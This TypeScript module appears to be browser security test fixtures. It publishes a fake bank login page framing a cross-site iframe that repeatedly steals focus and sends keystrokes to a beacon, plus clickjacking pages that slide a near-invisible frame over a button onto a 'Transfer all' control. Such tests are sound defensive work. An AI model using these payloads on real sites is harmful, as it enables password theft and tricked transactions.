import type { Site } from "../../site/site.ts"

/** How a frame of another site goes for the focus of the page around it, by the moments between two tries. */
export const THIEVES = {
  quick: "setInterval(grab, 1)",
  patient: "setInterval(grab, 5)",
  "at every message":
    "const { port1, port2 } = new MessageChannel(); port1.onmessage = () => { grab(); port2.postMessage(0) }; port2.postMessage(0)",
  "with a new document each time":
    "setInterval(() => { document.open(); document.write(field); document.close(); hear(); grab() }, 3)",
  "with a new frame each time": `setInterval(() => {
    const inner = document.body.appendChild(document.createElement("iframe"))
    inner.contentDocument.body.innerHTML = field
    inner.contentWindow.addEventListener("keydown", ({ key }) => top.postMessage("took " + key, "*"), true)
    inner.contentDocument.body.firstChild.oninput = ({ target }) => tell(target.value)
    inner.contentDocument.body.firstChild.focus()
    setTimeout(() => inner.remove(), 50)
  }, 6)`,
} as const

/** A page with a password field, and in a frame somebody who wants what is typed into it. */
export function publishThief(site: Site, name: string, how: string, sandbox = false): string {
  const path = `/published/thief-${name.replaceAll(" ", "-")}${sandbox ? "-sandboxed" : ""}`
  const beacon = JSON.stringify(`${site.crossSite}${path}/beacon`)
  site.publish(
    `${path}/frame`,
    `<!doctype html><body><input><script>
const field = "<input>"
const tell = (what) => fetch(${beacon} + "?" + encodeURIComponent(what))
const hear = () => {
  addEventListener("keydown", ({ key }) => tell("key " + key), true)
  addEventListener("beforeinput", ({ data }) => tell("text " + data), true)
  addEventListener("input", ({ target }) => tell("value " + target.value), true)
}
const grab = () => { const input = document.querySelector("input"); input.blur(); input.focus() }
hear()
${how}
</script>`,
  )
  site.publish(
    path,
    `<!doctype html><title>Bank</title><label>User <input id="user"></label>
<label>Password <input id="password" type="password"></label><div id="note" contenteditable aria-label="Note">x</div>
<iframe ${sandbox ? 'sandbox="allow-scripts"' : ""} src="${site.crossSite}${path}/frame" width="200" height="60"></iframe>`,
  )
  return path
}

/** How a frame comes under the mouse that was to press what lies below it. */
export const JACKS = {
  "when the mouse comes": `addEventListener("pointermove", () => {
    frame.style.pointerEvents = "auto"
    document.getElementById("status").textContent = "Thanks " + Date.now()
  }, true)`,
  "every 17 ms": `let on = false; setInterval(() => { on = !on; frame.style.pointerEvents = on ? "auto" : "none" }, 17)`,
  "by a move": `frame.style.pointerEvents = "auto"; frame.style.left = "900px"
    let on = false; setInterval(() => { on = !on; frame.style.left = on ? "100px" : "900px" }, 11)`,
  "made when the mouse comes": `addEventListener("pointermove", () => {
    const other = frame.cloneNode()
    other.style.pointerEvents = "auto"
    document.body.append(other)
    setTimeout(() => other.remove(), 200)
  }, true)`,
} as const

/** A page with a button, and over it a frame of another origin with a button that nobody wants to press. */
export function publishJack(site: Site, victim: string, name: string, how: string): string {
  const path = `/published/jack-${name.replaceAll(" ", "-")}-${victim.replace(/\W+/g, "-")}`
  site.publish(
    path,
    `<!doctype html><title>Jack</title><style>#target, iframe { position: absolute; left: 100px; top: 100px; width: 300px; height: 100px; border: 0 }
iframe { opacity: 0.01; pointer-events: none } #status { position: absolute; top: 300px }</style>
<button id="target" onclick="fetch('${path}/target')">Continue</button><iframe src="${victim}"></iframe><p id="status">status</p>
<script>const frame = document.querySelector("iframe"); ${how}</script>`,
  )
  return path
}

/** What is in such a frame: a site that means no harm, or somebody who wants the click. */
export const VICTIMS = {
  "an honest site": "",
  "one that listens first": `addEventListener("pointerdown", (event) => { event.stopImmediatePropagation(); tell() }, true)`,
} as const

export function publishVictim(site: Site, origin: string, name: string, script: string): { url: string; path: string } {
  const path = `/published/victim-${name.replaceAll(" ", "-")}`
  site.publish(
    path,
    `<!doctype html><body style="margin: 0"><script>const tell = () => fetch("${path}/pressed")</script><script>${script}</script>
<button style="width: 300px; height: 100px" onclick="tell()" onmousedown="tell()">Transfer all</button>`,
  )
  return { url: origin + path, path }
}
